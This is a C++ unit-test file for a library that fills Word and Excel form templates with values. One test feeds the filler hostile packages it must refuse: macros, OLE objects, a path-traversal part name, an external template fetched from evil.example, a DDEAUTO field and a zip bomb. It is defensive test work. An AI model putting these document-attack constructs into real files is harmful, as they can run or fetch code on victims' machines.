// Forms made here, part by part, as Word and Excel write them; and files that no form may be.
#include "office/forms/form.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "ground/base/error.h"
#include "office/forms/inside/package.h"
#include "office/forms/inside/shift.h"
#include "office/forms/testing/sample_form.h"

namespace forms {

namespace {

constexpr std::string_view kTypes =
    R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>{}</Types>)";
constexpr std::string_view kLinks =
    R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>)";
constexpr std::string_view kOffice = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

Package word_parts(std::string_view body) {
    return read_package(testing::word_form(body));
}
using testing::paragraph;
std::string row(std::initializer_list<std::string_view> cells) {
    std::string all = "<w:tr>";
    for (const auto& cell : cells) all += fmt::format("<w:tc>{}</w:tc>", paragraph(cell));
    return all + "</w:tr>";
}

Package workbook_parts(std::string_view texts, std::string_view sheet, std::string_view names = "") {
    return {
        {"[Content_Types].xml",
         fmt::format(
             kTypes,
             R"(<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/><Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/>)")},
        {"_rels/.rels",
         fmt::format(kLinks, fmt::format(R"(<Relationship Id="r1" Type="{}/officeDocument" Target="xl/workbook.xml"/>)",
                                         kOffice))},
        {"xl/workbook.xml",
         fmt::format(
             R"(<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{}"><sheets><sheet name="請求 書" sheetId="1" r:id="r1"/></sheets>{}</workbook>)",
             kOffice, names)},
        {"xl/_rels/workbook.xml.rels",
         fmt::format(
             kLinks,
             fmt::format(
                 R"(<Relationship Id="r1" Type="{0}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{0}/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="r3" Type="{0}/calcChain" Target="calcChain.xml"/>)",
                 kOffice))},
        {"xl/sharedStrings.xml",
         fmt::format(R"(<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</sst>)", texts)},
        {"xl/calcChain.xml",
         R"(<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="C5" i="1"/></calcChain>)"},
        {"xl/worksheets/sheet1.xml",
         fmt::format(R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</worksheet>)",
                     sheet)}};
}

tmpl::Map sample_values() {
    return {{"件名", "閲覧できない <障害> & 復旧"},
            {"経過", "1行目\n2行目"},
            {"請求金額", std::int64_t{1'100'000}},
            {"内訳", tmpl::List{tmpl::Map{{"内容", "保守"}, {"金額", std::int64_t{900'000}}},
                                tmpl::Map{{"内容", "値引き"}, {"金額", std::int64_t{-1'234}}}}},
            {"意見", tmpl::List{"よい", "速い"}},
            {"なし", tmpl::List{}}};
}

std::string filled_part(const Package& form, std::string_view part) {
    return testing::part_of(fill(write_package(form), sample_values()).bytes, part);
}
std::string filled_body(std::string_view body) {
    const std::string all = filled_part(word_parts(body), "word/document.xml");
    const auto from = all.find("<w:body>") + 8;
    return all.substr(from, all.find("<w:sectPr") - from);
}

std::string refusal(const std::string& bytes) {
    try {
        fill(bytes, sample_values());
    } catch (const base::Error& error) {
        EXPECT_EQ(error.kind(), base::Kind::BadInput);
        return error.message();
    }
    return "";
}

}  // namespace

TEST(FillForm, PutsTogetherAPlaceholderThatWordHasCutIntoRuns) {
    EXPECT_EQ(
        filled_body(
            R"(<w:p><w:r><w:t>件名：{</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>{件</w:t></w:r><w:r><w:t>名 }</w:t></w:r><w:r><w:t>}です</w:t></w:r></w:p>)"),
        R"(<w:p><w:r><w:t xml:space="preserve">件名：閲覧できない &lt;障害&gt; &amp; 復旧</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t/></w:r><w:r><w:t/></w:r><w:r><w:t xml:space="preserve">です</w:t></w:r></w:p>)");
    EXPECT_EQ(
        filled_body(paragraph("｛｛請求金額｝｝円 {{ 経過 }}")),
        R"(<w:p><w:r><w:t xml:space="preserve">1,100,000円 1行目</w:t><w:br/><w:t xml:space="preserve">2行目</w:t></w:r></w:p>)");
    EXPECT_EQ(filled_body(paragraph("{ひとつ} }}")), paragraph("{ひとつ} }}")) << "these are no placeholders";
}

TEST(FillForm, RepeatsTableRowsAndParagraphsForEachItem) {
    const std::string table = filled_body("<w:tbl>" + row({"内容", "金額"}) +
                                          row({"{{#内訳}}{{内容}}", "{{金額}}円（{{請求金額}}）{{/内訳}}"}) +
                                          row({"{{#なし}}{{内容}}", "空{{/なし}}"}) + row({"計", "x"}) + "</w:tbl>");
    EXPECT_NE(table.find("保守"), std::string::npos) << table;
    EXPECT_NE(table.find("900,000円（1,100,000）"), std::string::npos) << "a name of the whole, within an item";
    EXPECT_NE(table.find("-1,234円"), std::string::npos);
    EXPECT_LT(table.find("保守"), table.find("値引き"));
    EXPECT_EQ(table.find("{{"), std::string::npos);
    std::size_t rows = 0;
    for (auto at = table.find("<w:tr>"); at != std::string::npos; at = table.find("<w:tr>", at + 1)) ++rows;
    EXPECT_EQ(rows, 5U) << "a row without items stays once";

    EXPECT_EQ(
        filled_body(paragraph("{{#意見}}") + paragraph("・{{項目}}") + paragraph("{{/意見}}") + paragraph("終")),
        R"(<w:p><w:r><w:t xml:space="preserve">・よい</w:t></w:r></w:p><w:p><w:r><w:t xml:space="preserve">・速い</w:t></w:r></w:p>)" +
            paragraph("終"));
    EXPECT_EQ(filled_body(paragraph("{{#なし}}") + paragraph("・{{項目}}") + paragraph("{{/なし}}") + paragraph("終")),
              paragraph("終"));
}

TEST(FillForm, FillsAWorkbookAndMovesWhatStandsBelow) {
    const Package form = workbook_parts(
        "<si><t>{{#内訳}}{{内容}}</t><rPh sb=\"0\" "
        "eb=\"1\"><t>ナイヨウ</t></rPh></si><si><r><t>{{金</t></r><r><t>額}}</t></r></si>"
        "<si><t>{{/内訳}}</t></si><si><t>件名：{{件名}}</t></si><si><t>見出し</t></si>",
        R"(<dimension ref="A1:D9"/><sheetData><row r="1" ht="30" customHeight="1"><c r="A1" t="s"><v>4</v></c><c r="B1" t="s"><v>3</v></c></row>)"
        R"(<row r="3" ht="15"><c r="A3" s="2" t="s"><v>0</v></c><c r="B3" t="s"><v>1</v></c><c r="C3"><f>B3*2</f><v>0</v></c><c r="D3" t="s"><v>2</v></c></row>)"
        R"(<row r="5"><c r="C5"><f>SUM(C3:C3)+LOG10(C3)+$A$9</f><v>7</v></c></row><row r="9"><c r="A9"><v>1</v></c></row></sheetData>)"
        R"(<mergeCells count="2"><mergeCell ref="A3:A3"/><mergeCell ref="A5:B5"/></mergeCells><conditionalFormatting sqref="C3 C5"/>)",
        R"(<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">'請求 書'!$A$1:$D$9</definedName></definedNames><calcPr calcId="1"/>)");
    const std::string sheet = filled_part(form, "xl/worksheets/sheet1.xml");
    EXPECT_NE(sheet.find(R"(<c r="A1" t="s"><v>4</v></c>)"), std::string::npos) << "what has no placeholder stays";
    EXPECT_NE(sheet.find("件名：閲覧できない &lt;障害&gt; &amp; 復旧"), std::string::npos);
    EXPECT_NE(sheet.find(R"(<row r="1" ht="30" customHeight="1">)"), std::string::npos) << "a height set by hand stays";
    EXPECT_NE(sheet.find(R"(<row r="3"><c r="A3" s="2" t="inlineStr"><is><t xml:space="preserve">保守</t></is></c>)"
                         R"(<c r="B3"><v>900000</v></c><c r="C3"><f>B3*2</f></c><c r="D3"/></row>)"
                         R"(<row r="4"><c r="A4" s="2" t="inlineStr"><is><t xml:space="preserve">値引き</t></is></c>)"
                         R"(<c r="B4"><v>-1234</v></c><c r="C4"><f>B4*2</f></c><c r="D4"/></row>)"
                         R"(<row r="6"><c r="C6"><f>SUM(C3:C4)+LOG10(C3)+$A$10</f></c></row><row r="10"><c r="A10">)"),
              std::string::npos)
        << sheet;
    EXPECT_NE(sheet.find(R"(<mergeCell ref="A3:A3"/><mergeCell ref="A4:A4"/><mergeCell ref="A6:B6"/>)"),
              std::string::npos)
        << sheet;
    EXPECT_EQ(sheet.find("dimension"), std::string::npos);
    const std::string book = filled_part(form, "xl/workbook.xml");
    EXPECT_NE(book.find("'請求 書'!$A$1:$D$10<"), std::string::npos) << book;
    EXPECT_NE(book.find("fullCalcOnLoad=\"1\""), std::string::npos);
    EXPECT_EQ(filled_part(form, "xl/calcChain.xml"), "");
    EXPECT_EQ(filled_part(form, "[Content_Types].xml").find("calcChain"), std::string::npos);
}

TEST(FillForm, MovesOnlyWhatNamesCells) {
    const std::map<std::string, Shifts> all{{"表", {{3, 3, 4}}}, {"B", {{1, 2, 3}}}};
    for (const auto& [before, after] : std::initializer_list<std::pair<std::string_view, std::string_view>>{
             {"SUM(A1:B3)", "SUM(A1:B6)"},
             {"SUM($A$3:A3)/A4", "SUM($A$3:A6)/A7"},
             {"\"A9\"&A9", "\"A9\"&A12"},
             {"B!A9+A9", "B!A13+A12"},
             {"'B'!A3:A5+A5", "'B'!A7:A9+A8"},
             {"LOG10(A9)+TAXES2027", "LOG10(A12)+TAXES2027"},
             {"別!A9", "別!A9"},
             {"A", "A"},
             {"", ""}})
        EXPECT_EQ(move_formula(before, "表", all), after);
    const Span span{3, 3, 4};
    EXPECT_EQ(move_formula("A3+A1+A4", "表", all, Copy{&span, 2}), "A5+A1+A7");
}

TEST(FillForm, NamesWhatItDoesNotKnow) {
    const Filled filled =
        fill(write_package(word_parts(paragraph("{{件名}}{{件各}}") + paragraph("{{#内訳}}{{単価}}{{/内訳}}"))),
             sample_values());
    EXPECT_EQ(filled.names, (std::vector<std::string>{"件名", "件各", "内訳", "単価"}));
    EXPECT_EQ(filled.unknown, (std::vector<std::string>{"件各", "単価"}));
    EXPECT_EQ(filled.format, Format::Word);
    const std::string form = write_package(word_parts(paragraph("{{件名}}")));
    EXPECT_EQ(fill(form, sample_values()).bytes, fill(form, sample_values()).bytes);
}

TEST(FillForm, RefusesWhatRunsFetchesOrSwells) {
    const auto with = [](std::string name, std::string bytes) {
        Package package = word_parts(paragraph("x"));
        package.push_back({std::move(name), std::move(bytes)});
        return write_package(package);
    };
    EXPECT_EQ(refusal(write_package(word_parts(paragraph("x")))), "");
    EXPECT_NE(refusal(with("word/vbaProject.bin", "x")), "");
    EXPECT_NE(refusal(with("word/embeddings/oleObject1.bin", "x")), "");
    EXPECT_NE(refusal(with("../x.xml", "x")), "");
    EXPECT_NE(refusal(with("word/document.xml", "x")), "") << "twice";
    EXPECT_NE(
        refusal(with(
            "word/_rels/settings.xml.rels",
            R"(<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>)")),
        "");
    EXPECT_EQ(
        refusal(with(
            "word/_rels/document.xml.rels",
            R"(<Relationships><Relationship Id="r" Type="x/hyperlink" Target="https://city.example/" TargetMode="External"/></Relationships>)")),
        "");
    const std::string bomb = with("word/media/image1.bmp", std::string(33U << 20U, 'x'));
    EXPECT_LT(bomb.size(), 1U << 20U);
    EXPECT_NE(refusal(bomb).find("大きく"), std::string::npos);
    Package macros = word_parts(paragraph("x"));
    macros[0].bytes.replace(macros[0].bytes.find("vnd.openxmlformats-officedocument.wordprocessingml.document.main"),
                            64, "vnd.ms-word.document.macroEnabled.main");
    EXPECT_NE(refusal(write_package(macros)).find("マクロ"), std::string::npos);
    std::string deep;
    for (int i = 0; i < 300; ++i) deep = "<w:x>" + deep + "</w:x>";
    EXPECT_NE(refusal(write_package(word_parts(deep))), "");
    EXPECT_NE(refusal(write_package(word_parts("<w:p><w:r><w:instrText> DDEAUTO c:\\\\x </w:instrText></w:r></w:p>"))),
              "");
    EXPECT_NE(refusal("PK but no zip"), "");
    EXPECT_NE(refusal(""), "");
    const std::string whole = write_package(word_parts(paragraph("x")));
    EXPECT_NE(refusal(whole.substr(0, whole.size() / 2)), "") << "cut";
}

TEST(FillForm, SaysWhatIsWrongWithARepetition) {
    const auto of = [](std::string_view body) { return refusal(write_package(word_parts(body))); };
    EXPECT_NE(of(paragraph("{{#内訳}}")).find("{{/内訳}}"), std::string::npos);
    EXPECT_NE(of(paragraph("{{/内訳}}")).find("{{#内訳}}"), std::string::npos);
    EXPECT_NE(of(paragraph("{{#内訳}}{{/意見}}")).find("名前をそろえて"), std::string::npos);
    EXPECT_NE(of(paragraph("{{内訳")).find("差込み"), std::string::npos);
    EXPECT_NE(of("<w:tbl>" + row({"{{#内訳}}", "x"}) + "</w:tbl>" + paragraph("{{/内訳}}")), "");
    const auto sheet = [](std::string_view rows) {
        return refusal(write_package(workbook_parts("<si><t>{{#内訳}}</t></si><si><t>{{/内訳}}</t></si>",
                                                    fmt::format("<sheetData>{}</sheetData>", rows))));
    };
    EXPECT_EQ(sheet(R"(<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>)"), "");
    EXPECT_NE(sheet(R"(<row r="1"><c r="A1" t="s"><v>0</v></c></row>)").find("同じシート"), std::string::npos);
    EXPECT_NE(sheet(R"(<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>0</v></c></row>)"),
              "");
    EXPECT_NE(sheet(R"(<row r="2"/><row r="1"/>)"), "");
    EXPECT_NE(
        sheet(
            R"(<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1"><f t="shared" ref="C1:C2" si="0">A1</f></c></row>)")
            .find("数式"),
        std::string::npos);
}

}  // namespace forms
